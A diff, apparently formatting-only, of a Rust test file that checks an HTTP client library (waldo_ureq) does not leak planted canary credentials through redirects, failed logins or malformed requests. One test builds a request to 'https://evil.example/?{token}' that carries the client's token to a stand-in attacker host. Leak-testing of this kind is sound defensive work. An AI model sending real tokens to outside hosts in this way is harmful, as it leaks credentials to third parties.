@@ -10,7 +10,9 @@ use waldo_ureq::http::header::AUTHORIZATION;
 use waldo_ureq::http::{HeaderMap, Request, Response};
 use waldo_ureq::ureq::middleware::MiddlewareNext;
 use waldo_ureq::ureq::{Agent, Body, SendBody};
-use waldo_ureq::{BuildError, Client, ClientBuilder, Credentials, EnvError, Error, Factory, OneShot};
+use waldo_ureq::{
+    BuildError, Client, ClientBuilder, Credentials, EnvError, Error, Factory, OneShot,
+};
 
 use crate::canaries::{KEY, OTHER_KEY, OTHER_SECRET, SECRET, plant};
 use crate::ears::EARS;
@@ -111,7 +113,8 @@ fn the_tokens_lifetime(emulator: &Emulator, client: &Client) {
 }
 
 fn calls_that_fail(emulator: &Emulator, client: &Client) {
-    let elsewhere = Answer::Redirect { status: 307, location: "https://elsewhere.example/".to_owned() };
+    let elsewhere =
+        Answer::Redirect { status: 307, location: "https://elsewhere.example/".to_owned() };
     for answer in [
         Answer::Cut,
         Answer::CutShort,
@@ -132,7 +135,9 @@ fn calls_that_fail(emulator: &Emulator, client: &Client) {
 fn requests_that_are_wrong(client: &Client) {
     let token = client.token().unwrap();
     let token = token.to_str().unwrap();
-    for target in [format!("https://evil.example/?{token}"), format!("/{KEY} {SECRET}"), SECRET.to_owned()] {
+    for target in
+        [format!("https://evil.example/?{token}"), format!("/{KEY} {SECRET}"), SECRET.to_owned()]
+    {
         call(client, &target);
     }
     tell(client, client.get(CUSTOMER).header(format!("{KEY} "), "x").call());
@@ -162,8 +167,9 @@ fn logins_that_fail(emulator: &Emulator) {
         Answer::Redirect { status: 302, location: "https://elsewhere.example/".to_owned() },
         echo,
     ] {
-        let limits =
-            |limits: waldo_ureq::ConfigBuilder| limits.failures_per_call(1).lease(Duration::from_millis(400));
+        let limits = |limits: waldo_ureq::ConfigBuilder| {
+            limits.failures_per_call(1).lease(Duration::from_millis(400))
+        };
         let client = builder(emulator).limits(limits).build().unwrap();
         emulator.push_fault(Fault::login(answer));
         call(&client, CUSTOMER);
@@ -216,7 +222,8 @@ fn a_store(emulator: &Emulator, client: &Client) {
 fn nobody_there() {
     let pair = || Credentials::new(KEY, SECRET).unwrap();
     let limits = |limits: waldo_ureq::ConfigBuilder| limits.failures_per_call(1);
-    let client = Client::builder(pair()).origin("http://127.0.0.1:1").limits(limits).build().unwrap();
+    let client =
+        Client::builder(pair()).origin("http://127.0.0.1:1").limits(limits).build().unwrap();
     call(&client, CUSTOMER);
     let error = Client::builder(pair()).origin(SECRET).build().unwrap_err();
     EARS.hear_error(&error);
